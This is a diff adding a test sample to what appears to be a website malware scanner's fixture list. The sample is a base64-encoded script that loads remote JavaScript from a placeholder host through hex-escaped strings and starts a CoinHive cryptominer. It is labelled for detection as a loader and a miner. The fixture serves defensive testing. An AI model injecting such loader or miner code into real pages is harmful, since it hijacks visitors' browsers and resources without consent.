@@ -20,6 +20,14 @@ export const samples: readonly Sample[] = [
     expect: ['script-skimmer'],
   },
   {
+    name: 'a stranger brought in by hidden letters, and coins made besides',
+    path: 'squelettes/js/two.js',
+    zone: 'template',
+    base64:
+      'dGhyb3cgMDt2YXIgcz1kb2N1bWVudC5jcmVhdGVFbGVtZW50KCdzY3JpcHQnKTtzLnNyYz0nXHg2OFx4NzRceDc0XHg3MFx4NzNceDNhXHgyZlx4MmZceDYzXHg2NFx4NmVceDJlXHg2ZFx4NjlceDZlXHg2NVx4NzJceDJkXHg2Nlx4NjlceDZjXHg2NVx4NzNceDJlXHg2OVx4NmVceDc2XHg2MVx4NmNceDY5XHg2NFx4MmZceDc4XHgyZVx4NmFceDczJztkb2N1bWVudC5oZWFkLmFwcGVuZENoaWxkKHMpO3ZhciBtPW5ldyBDb2luSGl2ZS5Vc2VyKCdub2JvZHknKTttLnN0YXJ0KCk7',
+    expect: ['script-loader', 'script-miner'],
+  },
+  {
     name: "a card's form put into the page by hidden letters",
     path: 'squelettes/js/form.js',
     zone: 'template',
